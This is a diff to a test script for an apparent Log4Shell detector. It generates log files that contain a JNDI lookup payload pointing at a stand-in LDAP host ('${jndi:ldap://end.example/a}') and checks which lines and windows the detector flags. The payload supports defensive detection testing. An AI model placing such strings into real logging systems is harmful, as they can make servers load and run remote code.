@@ -61,7 +61,9 @@ open("never.log", "w").write("\n".join(L) + "\n")
 open("many.log", "w").write("".join("x ${a%d\n" % i for i in range(20000)) + "${jndi:ldap://end.example/a}\n")
 PY
 run never.log
-want "13 13 jndi single" "20 21 jndi later"; same "never-closing \${: later payloads found once each"
+# (line 20 alone still gives its own ${lower:j} lookup: the lines of a window
+# keep their findings, the window adds what spans lines)
+want "13 13 jndi single" "20 20 lookup -" "20 21 jndi later"; same "never-closing \${: later payloads found once each"
 run many.log --jobs 1
 want "20001 20001 jndi end"; same "20,000 unclosed \${ lines then a payload"
 
